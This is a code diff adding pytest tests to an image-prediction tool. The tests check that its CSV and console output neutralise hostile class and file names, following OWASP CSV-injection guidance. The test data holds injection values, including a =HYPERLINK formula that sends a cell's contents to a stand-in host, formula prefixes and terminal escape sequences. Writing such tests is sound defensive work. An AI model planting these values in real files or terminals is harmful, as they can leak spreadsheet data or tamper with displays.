@@ -5,7 +5,7 @@ import shutil
 from pathlib import Path
 
 import pytest
-from helpers import ROOT, compose_config, png_bomb, run_in_process
+from helpers import ROOT, compose_config, photo, png_bomb, run_in_process, write_cnn_checkpoint
 
 from litforge.deploy.predict import predict
 from litforge.errors import UserError
@@ -152,3 +152,71 @@ def test_cli_predicts_a_glob_with_an_exported_model(tmp_path, trained_images, ex
             )
             compared += 1
     assert compared == 3 * 4  # the test PNGs the glob matched
+
+
+def test_model_path_of_a_text_file_is_named_as_model_path(tmp_path):
+    notes = tmp_path / "notes.txt"
+    notes.write_text("not a model")
+    overrides = [f"model_path={notes}", f"input={ROOT / 'README.md'}"]
+    with pytest.raises(UserError, match=f"^model_path={notes} is neither a .onnx nor a .pt2"):
+        predict(compose_config("predict", tmp_path, overrides))
+
+
+def test_text_from_files_is_written_as_text_a_spreadsheet_runs_no_formula_of(
+    tmp_path, monkeypatch, capsys
+):
+    """Class names come from a checkpoint, file names from the input folder: a cell starting as a
+    formula (= + - @, a tab or CR) gets a leading ', control characters are written as \\x1b
+    (OWASP's CSV injection guidance); the probabilities stay numbers."""
+    names = (
+        '=HYPERLINK("http://x.example/?"&A1,"open")',
+        "+1+1",
+        "-1+1",
+        "@SUM(A1:A9)",
+        "\tTab",
+        "\rreturn",
+        "bell\x07esc\x1b[31mred",
+        "[/]Coat",  # console markup, shown as it is
+    )
+    checkpoint = write_cnn_checkpoint(tmp_path / "cnn.ckpt", 128, class_names=names)
+    photos = tmp_path / "photos"
+    photos.mkdir()
+    (photos / "=1+1.jpg").write_bytes(photo(0))
+    (photos / "x\x1b[2J.png").write_bytes(photo(1, file_format="PNG"))
+    monkeypatch.chdir(photos)  # input=*.*: the file names as the CSV's paths
+    overrides = [f"ckpt_path={checkpoint}", "input=*.*", "predict.top_k=8", "predict.device=cpu"]
+    predict(compose_config("predict", tmp_path, overrides))
+
+    text = (tmp_path / "run" / "predictions.csv").read_text()
+    assert not {"\x07", "\x1b", "\t"} & set(text)
+    header, *rows = list(csv.reader(text.splitlines()))
+    assert [row[0] for row in rows] == ["'=1+1.jpg", "x\\x1b[2J.png"]
+    for row in rows:
+        assert sorted(row[1::2]) == sorted(
+            [
+                '\'=HYPERLINK("http://x.example/?"&A1,"open")',
+                "'+1+1",
+                "'-1+1",
+                "'@SUM(A1:A9)",
+                "'\\x09Tab",
+                "'\\x0dreturn",
+                "bell\\x07esc\\x1b[31mred",
+                "[/]Coat",
+            ]
+        )
+        assert all(0 <= float(p) <= 1 for p in row[2::2])  # numbers: no ' before them
+    console = capsys.readouterr().out
+    assert "\x1b" not in console and "\x07" not in console
+    for row in rows:  # the counts per class, of the names as the CSV shows them
+        assert row[1].removeprefix("'") in console
+
+
+def test_the_console_shows_class_names_as_text(tmp_path, capsys):
+    from collections import Counter
+
+    from litforge.deploy.predict import summarize
+
+    summarize(Counter({"[/]Coat": 2, "[bold]Bag": 1, "bell\x07esc\x1b[2J": 1}), 0, tmp_path)
+    console = capsys.readouterr().out
+    assert "[/]Coat" in console and "[bold]Bag" in console  # no console markup
+    assert "bell\\x07esc\\x1b[2J" in console and "\x1b" not in console
